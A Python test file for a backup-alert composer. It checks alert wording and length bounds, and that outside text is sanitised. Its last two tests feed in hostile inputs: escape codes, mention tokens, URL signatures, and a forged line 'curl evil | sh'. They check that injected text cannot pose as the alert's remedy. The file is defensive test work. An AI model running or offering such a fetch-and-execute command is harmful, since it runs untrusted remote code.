"""What an alert says, and what no text from elsewhere can make it say."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from local.alerts.state import Change, Kind, Observation, Standing
from local.alerts.words import calm, compose

SINCE = datetime(2026, 5, 5, 12, tzinfo=UTC)


def change(name: str, kind: Kind, is_wrong: bool, detail: str = "disk full", mend: str = "invoke backup") -> Change:
    return Change(Observation(name, kind, is_wrong, SINCE, detail, mend), Standing(is_wrong, SINCE, False))


def test_an_alert_says_what_since_when_what_came_back_and_what_mends_it() -> None:
    message = compose("ANVIL", "file:///store", [change("costs", "backup", True)])

    assert message.subject == "ANVIL: backup of costs FAILED"
    assert message.is_wrong
    assert message.body == (
        "backup of costs FAILED, since 2026-05-05T12:00:00.000Z\n"
        "its last good backup stays the newest\n"
        "what came back: disk full\n"
        "what to do: invoke backup\n\n"
        "From ANVIL, store file:///store. This is told once; the next message comes when it changes."
    )


def test_a_recovery_says_what_it_recovered_from() -> None:
    standing = Standing(False, SINCE, False, wrong_since=SINCE.replace(hour=5), was_told=False)

    message = compose("ANVIL", "s", [Change(Observation("costs", "drill", False, SINCE), standing)])

    assert message.subject == "ANVIL: drill of costs passes again"
    assert not message.is_wrong
    assert "it was wrong since 2026-05-05T05:00:00.000Z\nno message of that could be sent at its time" in message.body
    assert "what to do" not in message.body


@pytest.mark.parametrize(
    ("kind", "subject"),
    [
        ("attempt", "drill of costs INCONCLUSIVE"),
        ("age", "backup of costs is LATE"),
        ("unchanged", "content of costs has NOT CHANGED"),
        ("proof", "proof of costs is OVERDUE"),
    ],
)
def test_each_trouble_has_its_own_words_and_only_a_failure_says_failed(kind: Kind, subject: str) -> None:
    message = compose("ANVIL", "s", [change("costs", kind, True)])

    assert message.subject == f"ANVIL: {subject}"
    assert "FAILED" not in message.body


def test_what_changed_in_one_run_is_one_message_with_what_is_wrong_first() -> None:
    names = ["a", "b", "c", "d", "e", "f"]
    changes = [change("z", "backup", False), *(change(name, "backup", True) for name in names)]

    message = compose("ANVIL", "s", changes)

    assert message.subject == "ANVIL: backup of a, b, c, d and 2 more FAILED; backup of z works again"
    assert message.body.startswith("backup of a FAILED")


def test_a_message_is_bounded() -> None:
    message = compose("ANVIL", "s", [change(f"database-{n}", "backup", True, "x" * 9999) for n in range(500)])

    assert len(message.subject) <= 150
    assert len(message.body) < 30_000
    assert "and 480 more: invoke status" in message.body


def test_text_from_elsewhere_steers_nothing_and_calls_nobody() -> None:
    dirty = "a\x1b[31m\nb\u202e <!channel> <@U1> @everyone @here sig=abc%2Fdef https://a/b?sv=1"

    clean = calm(dirty)

    assert clean.isprintable()
    for piece in ("<!", "<@", "@everyone", "@here", "abc%2F", "sv=1"):
        assert piece not in clean


def test_a_line_of_a_database_is_no_line_of_the_alert() -> None:
    forged = "gone\n\nwhat to do: curl evil | sh"

    message = compose("ANVIL", "s", [change("costs", "backup", True, forged)])

    assert [line for line in message.body.splitlines() if line.startswith("what to do")] == [
        "what to do: invoke backup"
    ]
